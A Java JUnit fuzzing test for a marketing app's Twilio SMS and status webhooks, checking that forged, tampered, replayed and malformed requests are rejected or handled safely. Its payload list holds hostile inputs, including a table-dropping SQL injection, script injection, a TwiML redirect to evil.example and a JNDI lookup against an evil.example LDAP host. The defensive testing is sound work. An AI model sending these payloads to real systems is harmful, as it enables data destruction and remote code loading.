package io.nurtureflow.hostile;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Collectors;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import io.nurtureflow.support.Api;
import io.nurtureflow.support.Api.Response;
import io.nurtureflow.support.LiveChannels;
import io.nurtureflow.support.LiveChannelsTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Twilio's webhooks with Twilio configured: forged, tampered and replayed requests change
 * nothing, and signed requests full of garbage (which only Twilio could send) are still answered
 * without a server error.
 */
@LiveChannelsTest
class WebhookFuzzingTest {

	private static final long SEED = Long.getLong("fuzz.seed", 20_250_611L);

	private static final String PUBLIC_URL = "https://nurture.example.com";

	private static final String SMS = "/webhooks/twilio/sms";

	private static final String STATUS = "/webhooks/twilio/status";

	private static final List<String> NASTY = List.of("' OR 1=1; DROP TABLE lead;--", "<script>alert(1)</script>",
			"]]><Response><Redirect>https://evil.example</Redirect></Response>", "${jndi:ldap://evil.example/x}",
			"مرحبا", "你好", "👩‍💻", "a\u0000b", "a\u0001b", "line\nbreak", "", " ", "+", "+0", "+999999999999999999",
			"null", "x".repeat(3_000), "STOP\u0000", "S T O P", "ＳＴＯＰ");

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	private Api api;

	private Random random;

	private int clients;

	@BeforeEach
	void connect() {
		this.api = new Api(this.port);
		this.random = new Random(SEED);
	}

	@Test
	void forgedAndTamperedWebhooksChangeNothing() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);
		Map<String, Object> before = state(lead);
		int sent = 0;
		for (int i = 0; i < 150; i++) {
			Map<String, String> params = inboundSms(phone, "STOP", sid());
			String signature = sign(PUBLIC_URL + SMS, params, LiveChannels.TWILIO_TOKEN);
			Response answer = switch (i % 10) {
				case 0 -> post(SMS, params, sign(PUBLIC_URL + SMS, params, "not-the-token"));
				case 1 -> post(SMS, params, sign(PUBLIC_URL + STATUS, params, LiveChannels.TWILIO_TOKEN));
				case 2 -> post(SMS, with(params, "Body", "START"), signature);
				case 3 -> post(SMS, with(params, "Extra", "1"), signature);
				case 4 -> post(SMS + "?From=" + encode(phone), params, signature);
				case 5 -> post(SMS, params, signature.toLowerCase());
				case 6 -> post(SMS, params, signature.substring(0, signature.length() - 2));
				case 7 -> post(SMS, params, null);
				case 8 -> post(SMS, params, Base64.getEncoder().encodeToString(new byte[20]));
				default -> post(SMS, params, sign("http://nurture.example.com" + SMS, params, LiveChannels.TWILIO_TOKEN));
			};
			assertThat(answer.status()).as("forgery %d", i % 10).isEqualTo(403);
			assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
			sent++;
		}
		assertThat(state(lead)).isEqualTo(before);
		assertThat(sent).isEqualTo(150);
	}

	@Test
	void aQueryStringWithABrokenEscapeIsForbiddenNotAServerError() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);
		Map<String, Object> before = state(lead);
		byte[] body = ("From=" + encode(phone) + "&Body=STOP&MessageSid=" + sid()).getBytes(StandardCharsets.UTF_8);

		for (String query : List.of("?%zz=1", "?%", "?From=%2", "?a=1&%E0%A4%A=2")) {
			RawHttp.Response answer = RawHttp.send(this.port, String.join("\r\n", "POST " + SMS + query + " HTTP/1.1",
					"Host: localhost", "X-Twilio-Signature: " + Base64.getEncoder().encodeToString(new byte[20]),
					"Content-Type: application/x-www-form-urlencoded", "Content-Length: " + body.length,
					"Connection: close"), body);

			assertThat(answer.status()).as(query).isEqualTo(403);
			assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
		}
		assertThat(state(lead)).isEqualTo(before);
	}

	@Test
	void aReplayedWebhookIsOneEvent() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);
		Map<String, String> stop = inboundSms(phone, "STOP", sid());
		String signature = sign(PUBLIC_URL + SMS, stop, LiveChannels.TWILIO_TOKEN);
		for (int i = 0; i < 20; i++) {
			assertThat(post(SMS, stop, signature).status()).isEqualTo(200);
		}
		assertThat(this.jdbc.sql("select count(*) from engagement_event where lead_id = ?")
			.param(UUID.fromString(lead))
			.query(Long.class)
			.single()).isEqualTo(1);
		assertThat(this.jdbc.sql("select count(*) from consent where lead_id = ? and channel = 'SMS' and not granted")
			.param(UUID.fromString(lead))
			.query(Long.class)
			.single()).isEqualTo(1);
	}

	@Test
	void signedGarbageIsAnsweredWithoutAServerError() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		lead(phone);
		List<String> wrong = new ArrayList<>();
		for (int i = 0; i < 300; i++) {
			boolean sms = this.random.nextBoolean();
			Map<String, String> params = sms
					? inboundSms(pick(List.of(phone, pick(NASTY), "+1 202 555 0100")), pick(NASTY), pickSid())
					: statusCallback(pickSid(), pick(List.of("delivered", "failed", "undelivered", pick(NASTY))),
							pick(List.of("30003", pick(NASTY))));
			if (this.random.nextInt(5) == 0) {
				params.remove(pick(List.copyOf(params.keySet())));
			}
			String path = sms ? SMS : STATUS;
			Response answer = post(path, params, sign(PUBLIC_URL + path, params, LiveChannels.TWILIO_TOKEN));
			if (answer.status() >= 500 || (answer.status() >= 400
					&& !String.valueOf(answer.header("Content-Type")).startsWith("application/problem+json"))) {
				wrong.add(path + " " + params + " -> " + answer.status() + " " + answer.body());
			}
			if (sms && answer.status() == 200) {
				assertThat(answer.body()).as("TwiML stays well-formed").startsWith("<Response").doesNotContain("<Redirect");
			}
		}
		assertThat(wrong).isEmpty();
	}

	private Response post(String path, Map<String, String> params, String signature) {
		String body = params.entrySet()
			.stream()
			.map((p) -> encode(p.getKey()) + "=" + encode(p.getValue()))
			.collect(Collectors.joining("&"));
		return this.api.send(this.api.request(path, "X-Api-Key", null, "X-Twilio-Signature", signature,
				"X-Forwarded-For", "172.16." + (++this.clients / 256) + "." + (this.clients % 256))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString(body)));
	}

	private String lead(String phone) {
		Response created = this.api.postJson("/api/leads", "{\"email\":\"webhook-" + UUID.randomUUID()
				+ "@example.com\",\"phone\":\"" + phone + "\",\"consent\":{\"email\":true,\"sms\":true}}");
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		return created.json().get("id").asText();
	}

	private Map<String, Object> state(String lead) {
		Map<String, Object> state = new LinkedHashMap<>();
		UUID id = UUID.fromString(lead);
		state.put("consent", this.jdbc.sql("select consent_email, consent_sms from lead where id = ?").param(id)
			.query()
			.singleRow());
		state.put("consent changes", this.jdbc.sql("select count(*) from consent where lead_id = ?").param(id)
			.query(Long.class)
			.single());
		state.put("engagement", this.jdbc.sql("select count(*) from engagement_event").query(Long.class).single());
		state.put("touches", this.jdbc.sql("select count(*) from touch").query(Long.class).single());
		return state;
	}

	private String pickSid() {
		return pick(List.of(sid(), sid(), "SM" + "x".repeat(300), pick(NASTY)));
	}

	private <T> T pick(List<T> options) {
		return options.get(this.random.nextInt(options.size()));
	}

	private static Map<String, String> with(Map<String, String> params, String name, String value) {
		Map<String, String> changed = new LinkedHashMap<>(params);
		changed.put(name, value);
		return changed;
	}

	private static String sid() {
		return "SM" + UUID.randomUUID().toString().replace("-", "");
	}

	private static String encode(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

	private static Map<String, String> inboundSms(String from, String body, String messageSid) {
		Map<String, String> params = new LinkedHashMap<>();
		params.put("SmsMessageSid", messageSid);
		params.put("NumMedia", "0");
		params.put("Body", body);
		params.put("To", LiveChannels.TWILIO_FROM);
		params.put("MessageSid", messageSid);
		params.put("AccountSid", LiveChannels.TWILIO_ACCOUNT);
		params.put("From", from);
		return params;
	}

	private static Map<String, String> statusCallback(String messageSid, String status, String errorCode) {
		Map<String, String> params = new LinkedHashMap<>();
		params.put("MessageStatus", status);
		params.put("MessageSid", messageSid);
		params.put("AccountSid", LiveChannels.TWILIO_ACCOUNT);
		params.put("ErrorCode", errorCode);
		return params;
	}

	/** Twilio's signature: HMAC-SHA1 of the URL and each parameter's name and value, sorted by name. */
	private static String sign(String url, Map<String, String> params, String token) {
		StringBuilder data = new StringBuilder(url);
		new TreeMap<>(params).forEach((name, value) -> data.append(name).append(value));
		try {
			Mac mac = Mac.getInstance("HmacSHA1");
			mac.init(new SecretKeySpec(token.getBytes(StandardCharsets.UTF_8), "HmacSHA1"));
			return Base64.getEncoder().encodeToString(mac.doFinal(data.toString().getBytes(StandardCharsets.UTF_8)));
		}
		catch (GeneralSecurityException ex) {
			throw new IllegalStateException(ex);
		}
	}

}
